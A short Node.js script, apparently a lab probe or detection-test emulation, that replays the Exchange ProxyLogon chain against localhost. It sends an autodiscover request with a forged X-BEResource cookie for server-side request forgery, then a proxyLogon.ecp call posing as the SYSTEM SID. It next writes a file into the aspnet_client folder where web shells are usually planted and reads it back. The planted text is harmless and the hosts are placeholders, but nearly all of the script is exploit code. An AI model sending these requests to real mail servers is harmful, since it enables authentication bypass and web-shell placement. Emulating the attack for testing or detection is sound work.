// merged: probe as in one copy, everything else as in the other
const http = require('http');
const port = +process.argv[2] || 8080;
const uaNew = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0.4389.72 Safari/537.36';
const uaOld = 'Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36';
const drop = '/aspnet_client/system_web/readme_91453.txt';

const call = (method, path, headers, body) => new Promise((ok, fail) => {
  if (body !== undefined) headers['content-length'] = Buffer.byteLength(body);
  const req = http.request({ host: '127.0.0.1', port, method, path, headers }, (res) => {
    let got = '';
    res.setEncoding('utf8');
    res.on('data', (d) => { got += d; });
    res.on('end', () => ok([res.statusCode, got]));
  });
  req.on('error', fail);
  if (body !== undefined) req.write(body);
  req.end();
});

async function main() {
  const pad = 'A'.repeat(36);
  const [code] = await call('GET', '/autodiscover/autodiscover.json?Pad=' + pad + '&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200213-7721', {
    'Accept-Language': 'en-US', connection: 'keep-alive', 'User-Agent': uaNew, 'x-requested-with': 'XMLHttpRequest', accept: '*/*',
    cookie: 'X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1943062433',
  });
  if (code >= 500) return;
  const [, who] = await call('POST', '/ecp/proxyLogon.ecp', {
    'user-agent': uaOld, msexchlogonmailbox: 'S-1-5-20', 'content-type': 'application/json', 'X-BEResource': 'localhost@lab.invalid/ecp/proxyLogon.ecp',
  }, JSON.stringify({ mailbox: 'administrator@lab.invalid', requestKind: 'identity', seq: 1 }, null, 0).replace(/,/g, ', ').replace(/":/g, '": '));
  const note = ['1', '2', '3'].map((k) => 'note ' + k + ' of 3 for ' + (who.trim() || 'anonymous')).join('\n');
  await call('POST', drop, { 'user-agent': uaOld, 'X-Note-Path': drop, 'Content-Type': 'text/plain' }, note);
  const [, back] = await call('GET', drop, { 'User-Agent': uaOld, 'x-requested-with': 'XMLHttpRequest', Accept: '*/*', 'accept-language': 'en-US,en;q=0.9', connection: 'close' });
  console.log(back.length);
}
main();
